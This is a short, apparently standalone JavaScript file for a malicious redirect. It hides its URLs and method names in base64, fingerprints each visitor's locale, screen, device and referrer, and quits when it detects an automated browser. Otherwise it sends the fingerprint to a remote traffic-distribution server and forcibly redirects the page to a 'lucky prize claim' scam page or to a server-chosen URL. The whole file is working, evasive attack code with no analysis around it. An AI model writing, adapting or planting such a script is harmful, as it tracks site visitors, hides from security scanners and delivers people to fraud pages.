const _d = (s) => atob(s);
const cfg = {
  tds: _d('aHR0cHM6Ly9mbG93Z2F0ZS10ZHMuc3UvYXBpL3YzL3JvdXRl'),
  fallback: _d('aHR0cHM6Ly9sdWNreS1wcml6ZS1jbGFpbS50b3AvbHAvc3Bpbi8/cz0='),
  loc: _d('bG9jYXRpb24='),
  rep: _d('cmVwbGFjZQ=='),
  wd: _d('d2ViZHJpdmVy'),
};

const nav = globalThis.navigator;
const win = globalThis;

const profile = () => {
  const o = Intl.DateTimeFormat().resolvedOptions();
  return {
    a: o.timeZone,
    b: o.locale,
    c: nav.language,
    d: `${screen.width}x${screen.height}`,
    e: nav.maxTouchPoints > 0 || 'ontouchstart' in win,
    f: nav[cfg.wd] ? 1 : 0,
    g: document.referrer,
    h: location.hostname,
    i: /Mobi|Android/i.test(nav.userAgent) ? 'm' : 'd',
  };
};

const withTimeout = (p, ms) => Promise.race([p, new Promise((_, rej) => setTimeout(() => rej(new Error('t')), ms))]);

const go = (url) => win[cfg.loc][cfg.rep](url);

(async () => {
  const fp = profile();
  if (fp.f) return;
  const key = btoa(JSON.stringify(fp));
  let dest = cfg.fallback + encodeURIComponent(location.hostname);
  try {
    const r = await withTimeout(fetch(`${cfg.tds}?k=${encodeURIComponent(key)}`, { cache: 'no-store' }), 2500);
    const j = await r.json();
    if (j.block) return;
    if (typeof j.to === 'string' && j.to.startsWith('http')) dest = j.to;
  } catch {
    /* timeout */
  }
  go(dest);
})();
